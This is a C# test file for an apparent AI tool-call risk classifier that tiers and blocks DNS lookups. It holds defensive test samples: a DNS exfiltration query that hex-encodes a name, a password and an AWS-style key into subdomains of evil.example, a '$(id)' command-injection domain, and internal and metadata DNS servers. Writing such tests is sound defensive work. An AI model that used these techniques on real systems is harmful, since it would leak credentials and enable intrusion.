using System.Text.Json;
using CsCheck;
using Legator.Core.Actions;
using Legator.Core.Actions.Classification;

namespace Legator.Core.Tests.Actions.Classification.Dns;

public sealed class DnsClassifierTests
{
    [Theory]
    [InlineData("""{"domain":"example.com"}""", RiskTier.Read)]
    [InlineData("""{"domain":"_dmarc.example.com","type":"txt"}""", RiskTier.Read)]
    [InlineData("""{"domain":"example.com","type":"MX","server":"8.8.8.8"}""", RiskTier.Read)]
    [InlineData("""{"domain":"example.com","type":"AXFR"}""", RiskTier.ServiceMutation)]
    [InlineData("""{"domain":"example.com","type":"TSIG"}""", RiskTier.ServiceMutation)]
    [InlineData("""{"domain":"4a6f686e20446f652c2070617373776f7264.20686f7274656e73652c206b65792041.4b4941303031323334353637383930313233.x.evil.example"}""", RiskTier.ServiceMutation)]
    public void Query_Question_HasTier(string arguments, RiskTier tier)
    {
        var found = Call("dns.query", arguments);
        found.Problem.ShouldBeNull();
        found.Tier.ShouldBe(tier);
        found.Blocked.ShouldBeFalse();
    }

    [Theory]
    [InlineData("127.0.0.1")]
    [InlineData("0x7f000001")]
    [InlineData("10.0.0.10")]
    [InlineData("169.254.169.253")]
    [InlineData("kube-dns.kube-system.svc.cluster.local")]
    [InlineData("[::1]:53")]
    public void Query_InnerServer_IsBlockedUnlessTheEnvironmentNamesIt(string server)
    {
        var arguments = JsonSerializer.Serialize(new { domain = "example.com", server });
        Call("dns.query", arguments).Blocked.ShouldBeTrue();
        var host = server.EndsWith(":53", StringComparison.Ordinal) ? server[..^3] : server;
        var context = new ClassificationContext { Endpoints = [new Uri($"http://{host}/")] };
        if (!server.StartsWith("0x", StringComparison.Ordinal))
        {
            Call("dns.query", arguments, context).Blocked.ShouldBeFalse();
        }
    }

    [Theory]
    [InlineData("dns.query", "{}")]
    [InlineData("dns.query", """{"domain":""}""")]
    [InlineData("dns.query", """{"domain":"a b"}""")]
    [InlineData("dns.query", """{"domain":"a..b"}""")]
    [InlineData("dns.query", """{"domain":"-x.example"}""")]
    [InlineData("dns.query", """{"domain":"$(id).example"}""")]
    [InlineData("dns.query", """{"domain":"example.com","type":"A +short"}""")]
    [InlineData("dns.query", """{"domain":"example.com","server":"8.8.8.8:22"}""")]
    [InlineData("dns.query", """{"domain":"example.com","server":"@8.8.8.8"}""")]
    [InlineData("dns.query", """{"domain":"a.example","name":"b.example"}""")]
    [InlineData("dns.reverse", """{"ip":"example.com"}""")]
    [InlineData("dns.reverse", """{"ip":"::1%eth0"}""")]
    public void Call_BadArguments_AreInvalid(string tool, string arguments) => Call(tool, arguments).Problem.ShouldNotBeNull();

    [Theory]
    [InlineData("""{"ip":"8.8.8.8"}""", "8.8.8.8")]
    [InlineData("""{"ip":"2606:4700::1111"}""", "2606:4700::1111")]
    [InlineData("""{"ip":"10.0.0.1"}""", "10.0.0.1")]
    public void Reverse_Address_IsARead(string arguments, string target)
    {
        var action = Call("dns.reverse", arguments).Actions.Single();
        action.Tier.ShouldBe(RiskTier.Read);
        action.Target.Text.ShouldBe(target);
    }

    [Fact]
    public void Query_AnyText_NeverThrows() =>
        Gen.Select(Gen.String, Gen.String, Gen.String).Sample((domain, type, server) => { Call("dns.query", JsonSerializer.Serialize(new { domain, type, server })); });

    private static CallClassification Call(string tool, string arguments, ClassificationContext? context = null) =>
        StandardClassifiers.Classify(tool, JsonDocument.Parse(arguments).RootElement, context ?? ClassificationContext.Empty);
}
